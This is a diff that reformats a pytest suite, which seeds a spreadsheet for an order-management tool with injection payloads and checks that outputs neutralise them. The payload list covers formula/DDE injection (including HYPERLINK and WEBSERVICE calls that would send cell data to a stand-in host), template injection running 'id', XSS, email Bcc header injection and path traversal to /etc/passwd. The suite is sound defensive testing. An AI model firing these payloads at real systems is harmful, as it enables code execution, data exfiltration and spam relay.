@@ -28,25 +28,63 @@ AS_OF = "2026-06-03"
 DAY = dt.datetime(2026, 5, 1)
 SEEN = "bxl-planted"
 ATTACKS = (
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "=WEBSERVICE(\"http://x.example\")",
-    "{{ 7*7 }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for x in range(10**9) %}x{% endfor %}", "{{ cycler.__init__.__globals__.os.popen('id') }}",
-    "<script>document.title='ran'</script>", "\"><img src=http://x.example/a onerror=document.title='ran'>", "<svg onload=document.title='ran'>",
-    "</title><script>document.title='ran'</script>", "javascript:document.title='ran'", "<iframe src=file:///etc/passwd>", "]]><script>document.title='ran'</script>",
-    "a\r\nBcc: evil@x.example\r\n\r\nbody", "=?utf-8?q?Hi=0D=0ABcc:_evil@x.example?=", "../../../etc/passwd", "..\\..\\windows\\system32", "CON", "nul.txt", "aux. ",
-    "name.", "C:evil", "\\\\x.example\\share", "x" * 300, "a/b\\c:d*e?f|g", "\u202egpj.exe", "SO-1", "so-1", "_x0000_", "_x003C_script_x003E_", "&lt;script&gt;", "']; alert(1); //",
-)  # fmt: skip
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1,"ok")',
+    '=WEBSERVICE("http://x.example")',
+    "{{ 7*7 }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{% for x in range(10**9) %}x{% endfor %}",
+    "{{ cycler.__init__.__globals__.os.popen('id') }}",
+    "<script>document.title='ran'</script>",
+    "\"><img src=http://x.example/a onerror=document.title='ran'>",
+    "<svg onload=document.title='ran'>",
+    "</title><script>document.title='ran'</script>",
+    "javascript:document.title='ran'",
+    "<iframe src=file:///etc/passwd>",
+    "]]><script>document.title='ran'</script>",
+    "a\r\nBcc: evil@x.example\r\n\r\nbody",
+    "=?utf-8?q?Hi=0D=0ABcc:_evil@x.example?=",
+    "../../../etc/passwd",
+    "..\\..\\windows\\system32",
+    "CON",
+    "nul.txt",
+    "aux. ",
+    "name.",
+    "C:evil",
+    "\\\\x.example\\share",
+    "x" * 300,
+    "a/b\\c:d*e?f|g",
+    "\u202egpj.exe",
+    "SO-1",
+    "so-1",
+    "_x0000_",
+    "_x003C_script_x003E_",
+    "&lt;script&gt;",
+    "']; alert(1); //",
+)
 
 
 def hostile(path: Path) -> Path:
     """One order, one item, one supplier and one purchase order for each attack, which stands in all its text cells."""
     rows: dict[str, list[list[object]]] = {
-        "Orders": [["Order", "Line", "Order Date", "Customer", "SKU", "Ordered", "Customer Name", "Email", "Specification", "Ship To"]],
+        "Orders": [
+            ["Order", "Line", "Order Date", "Customer", "SKU", "Ordered", "Customer Name", "Email", "Specification", "Ship To"]
+        ],
         "Stock": [["SKU", "On Hand"]],
         "Items": [["SKU", "Description", "Unit", "Supplier", "Substitute", "Link"]],
         "Suppliers": [["Supplier", "Name", "Email", "Currency", "Language"]],
         "Customers": [["Customer", "Name", "Email", "Language", "Country"]],
         "Purchase Orders": [["PO", "Line", "Supplier", "SKU", "Ordered", "Expected", "Status", "Ship To"]],
-        "Settings": [["Setting", "Value"], *([n, "<b>=1</b> {{ 7*7 }}\r\nBcc: evil@x.example"] for n in ("Company Name", "Sender Name", "Phone", "Page Title"))],
+        "Settings": [
+            ["Setting", "Value"],
+            *([n, "<b>=1</b> {{ 7*7 }}\r\nBcc: evil@x.example"] for n in ("Company Name", "Sender Name", "Phone", "Page Title")),
+        ],
     }
     for n, attack in enumerate(ATTACKS):
         rows["Orders"].append([attack, n, DAY, attack, attack, 5, attack, f"a{n}@b.example", None, attack])
@@ -76,7 +114,9 @@ def left(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder.mkdir(parents=True)
     book = hostile(folder / "book.xlsx")
     for words in (["run"], ["steer"], ["page"], ["whatif", "--cancel", "SO-1"], ["run"]):
-        assert main([words[0], str(book), *words[1:], "--as-of", AS_OF, "--set", "Legal Regime=US", "--set", "Page Items=all"]) == 0, words
+        assert (
+            main([words[0], str(book), *words[1:], "--as-of", AS_OF, "--set", "Legal Regime=US", "--set", "Page Items=all"]) == 0
+        ), words
     return folder
 
 
@@ -88,7 +128,12 @@ def test_no_text_became_a_formula(left: Path) -> None:
         for sheet, cells in raw_cells.sheets(path):
             for at, (kind, said, formula) in cells.items():
                 bare = formula.casefold()
-                assert not any(w in bare for w in ("cmd", "x.example", "webservice", "hyperlink(\"http", "|", "1+1", "sum(a1)")), (path.name, sheet, at, formula)
+                assert not any(w in bare for w in ("cmd", "x.example", "webservice", 'hyperlink("http', "|", "1+1", "sum(a1)")), (
+                    path.name,
+                    sheet,
+                    at,
+                    formula,
+                )
                 if said in signs:
                     assert kind == "s", (path.name, sheet, at)
                     found.add(said)
@@ -165,10 +210,24 @@ def opened(page: Path) -> tuple[str, str]:
     with tempfile.TemporaryDirectory() as home:
         log = Path(home, "net.json")
         done = subprocess.run(
-            [str(BROWSER), "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={home}", f"--log-net-log={log}",
-             "--disable-background-networking", "--virtual-time-budget=1000", "--dump-dom", page.as_uri()],
-            capture_output=True, text=True, timeout=120, env={**os.environ, "HOME": home}, errors="replace",
-        )  # fmt: skip
+            [
+                str(BROWSER),
+                "--headless",
+                "--no-sandbox",
+                "--disable-gpu",
+                f"--user-data-dir={home}",
+                f"--log-net-log={log}",
+                "--disable-background-networking",
+                "--virtual-time-budget=1000",
+                "--dump-dom",
+                page.as_uri(),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=120,
+            env={**os.environ, "HOME": home},
+            errors="replace",
+        )
         title = re.search(r"<title>(.*?)</title>", done.stdout, re.DOTALL)
         asked = log.read_text(errors="replace") if log.exists() else ""
         return (title[1] if title else ""), "x.example" if re.search(r'"url":"http://x\.example', asked) else ""
